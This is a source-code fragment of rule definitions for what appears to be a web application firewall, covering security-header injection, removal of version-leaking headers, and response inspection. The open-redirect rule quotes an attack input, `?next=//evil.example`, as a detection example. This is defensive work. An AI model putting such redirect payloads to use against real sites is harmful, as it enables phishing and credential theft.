    ResponseHeadersAddHsts, "response-headers-add-hsts", "response-headers", "response-headers-add", On, [319], 403,
        "Adds `Strict-Transport-Security: max-age=63072000; includeSubDomains`, so that browsers use HTTPS only, unless the upstream sets it.",
        "Disable it while any subdomain is still served over plain HTTP, or where users reach the service without TLS on a local network.";
    ResponseHeadersAddCsp, "response-headers-add-csp", "response-headers", "response-headers-add", Off, [79, 1021], 403,
        "Adds `Content-Security-Policy` with `default-src 'self'`, `frame-ancestors 'none'` and related directives, unless the upstream sets it.",
        "Enable it for sites without inline scripts and foreign content; shops with payment widgets or analytics set their own through `inject`.";
    ResponseHeadersAddFrameOptions, "response-headers-add-frame-options", "response-headers", "response-headers-add", On, [1021], 403,
        "Adds `X-Frame-Options: DENY`, which forbids other pages to show this one in a frame, unless the upstream sets the header.",
        "Disable it for widgets, booking forms or players that partner sites embed, or set `SAMEORIGIN` through `response_headers.inject`.";
    ResponseHeadersAddNosniff, "response-headers-add-nosniff", "response-headers", "response-headers-add", On, [79, 430], 403,
        "Adds `X-Content-Type-Options: nosniff`, so that browsers do not guess a response's type, unless the upstream sets the header.",
        "Disable it for old sites that serve scripts or styles with a wrong `Content-Type`, until their types are corrected.";
    ResponseHeadersAddReferrerPolicy, "response-headers-add-referrer-policy", "response-headers", "response-headers-add", On, [200], 403,
        "Adds `Referrer-Policy: strict-origin-when-cross-origin`, so that other sites see only the origin, unless the upstream sets it.",
        "Disable it for affiliate or partner portals that need the full address in `Referer`, or set another policy through `inject`.";
    ResponseHeadersAddDnsPrefetch, "response-headers-add-dns-prefetch", "response-headers", "response-headers-add", On, [200], 403,
        "Adds `X-DNS-Prefetch-Control: off`, so that browsers do not look up linked hosts ahead, unless the upstream sets the header.",
        "Disable it for news sites or shops with many external hosts, where faster first clicks matter more than hiding the links shown.";
    ResponseHeadersAddCoop, "response-headers-add-coop", "response-headers", "response-headers-add", Off, [1021], 403,
        "Adds `Cross-Origin-Opener-Policy: same-origin`, which cuts the link to windows of other sites, unless the upstream sets it.",
        "Enable it for portals and online banking without pop-up sign-in; payment or single sign-on pop-ups of other sites stop working.";
    ResponseHeadersAddCoep, "response-headers-add-coep", "response-headers", "response-headers-add", Off, [1021], 403,
        "Adds `Cross-Origin-Embedder-Policy: unsafe-none`, the browser's own default made explicit, unless the upstream sets the header.",
        "Enable it where an audit wants the header present; for cross-origin isolation set `require-corp` through `response_headers.inject`.";
    ResponseHeadersAddCorp, "response-headers-add-corp", "response-headers", "response-headers-add", Off, [1021], 403,
        "Adds `Cross-Origin-Resource-Policy: same-origin`, so that other sites cannot load these resources, unless the upstream sets it.",
        "Enable it for portals and internal APIs; leave it off for images, fonts and scripts that other sites embed.";
    ResponseHeadersAddPermissionsPolicy, "response-headers-add-permissions-policy", "response-headers", "response-headers-add", Off, [1021], 403,
        "Adds a `Permissions-Policy` that denies accelerometer, camera, geolocation, gyroscope, magnetometer, microphone, payment and usb.",
        "Enable it for sites that use none of these, such as text portals; leave it off for video visits, store finders or payment buttons.";
    ResponseHeadersAddCacheControl, "response-headers-add-cache-control", "response-headers", "response-headers-add", Off, [525], 403,
        "Adds `Cache-Control: no-store, no-cache, must-revalidate, max-age=0`, unless the upstream sets its own value.",
        "Enable it on routes with personal data, such as patient records or accounts; leave it off for static files and public pages.";
    ResponseHeadersRemoveServer, "response-headers-remove-server", "response-headers", "response-headers-remove", On, [200], 403,
        "Removes the `Server` response header, for example `nginx/1.18.0`, which tells the software and often its version.",
        "Disable it where monitoring or support needs to see which upstream software answered, for example during a migration.";
    ResponseHeadersRemovePoweredBy, "response-headers-remove-powered-by", "response-headers", "response-headers-remove", On, [200], 403,
        "Removes the `X-Powered-By` response header, for example `PHP/8.1.2` or `Express`, which names the application's platform.",
        "Disable it on internal routes where inventory tools read the platform from this header.";
    ResponseHeadersRemoveAspnetVersion, "response-headers-remove-aspnet-version", "response-headers", "response-headers-remove", On, [200], 403,
        "Removes `X-AspNet-Version` and `X-AspNetMvc-Version`, which give the exact ASP.NET release, for example `4.0.30319`.",
        "Disable it on a staging route where developers check which framework version a server runs.";
    ResponseHeadersRemoveGenerator, "response-headers-remove-generator", "response-headers", "response-headers-remove", On, [200], 403,
        "Removes the `X-Generator` response header, for example `Drupal 10`, which names the content management system.",
        "Disable it where statistics or licence checks of a vendor look for this header on your pages.";
    ResponseHeadersRemoveDrupal, "response-headers-remove-drupal", "response-headers", "response-headers-remove", On, [200], 403,
        "Removes `X-Drupal-Cache` and `X-Drupal-Dynamic-Cache`, which show that Drupal is used and how its cache answered.",
        "Disable it while you tune Drupal's page cache and need to see `HIT` or `MISS` from outside.";
    ResponseHeadersRemoveVarnish, "response-headers-remove-varnish", "response-headers", "response-headers-remove", On, [200], 403,
        "Removes the `X-Varnish` response header, whose request numbers show that a Varnish cache is in use.",
        "Disable it while you debug a Varnish cache and match responses with its log by these numbers.";
    ResponseHeadersRemoveVia, "response-headers-remove-via", "response-headers", "response-headers-remove", On, [200], 403,
        "Removes the `Via` response header, for example `1.1 cache-12`, which names proxies between here and the upstream.",
        "Disable it where operators trace requests through several caches or look for proxy loops with `Via`.";
    ResponseHeadersRemoveRuntime, "response-headers-remove-runtime", "response-headers", "response-headers-remove", On, [200], 403,
        "Removes the `X-Runtime` response header, whose processing time in seconds helps timing attacks and points to Rails.",
        "Disable it for load tests or dashboards that read the application's own timing from this header.";
    ResponseHeadersRemoveDebug, "response-headers-remove-debug", "response-headers", "response-headers-remove", On, [200, 489], 403,
        "Removes `X-Debug-Token` and `X-Debug-Token-Link`, which lead to the Symfony profiler with request and configuration details.",
        "Disable it on development routes where the profiler toolbar is wanted; never on a public site.";
    ResponseHeadersRemoveBackendServer, "response-headers-remove-backend-server", "response-headers", "response-headers-remove", On, [200], 403,
        "Removes the `X-Backend-Server` response header, for example `app-03.internal`, which reveals names of internal hosts.",
        "Disable it while you look for the one faulty server behind a balancer and need to see which one answered.";
    ResponseHeadersRemoveVersion, "response-headers-remove-version", "response-headers", "response-headers-remove", On, [200], 403,
        "Removes the `X-Version` response header, for example `2.14.1`, which tells the release of the application.",
        "Disable it where apps or scripts read `X-Version` to notice a new release, for example a single-page application.";
    ResponseInspectionOpenRedirects, "response-inspection-open-redirects", "response-inspection", "", On, [601], 403,
        "A redirect whose `Location` names another host than the request's while that host is in a request parameter, as in `?next=//evil.example`.",
        "Disable it on routes that redirect to foreign hosts by design, such as single sign-on, payment hand-over or a link shortener.";
    ResponseInspectionOpenapiValidation, "response-inspection-openapi-validation", "response-inspection", "", Off, [20], 502,
        "An upstream response whose status, type or body does not match what the OpenAPI document declares for the operation.",
        "Enable it to find drift between an API and its contract, first in detect_only; in blocking mode the client gets 502 instead.";
}
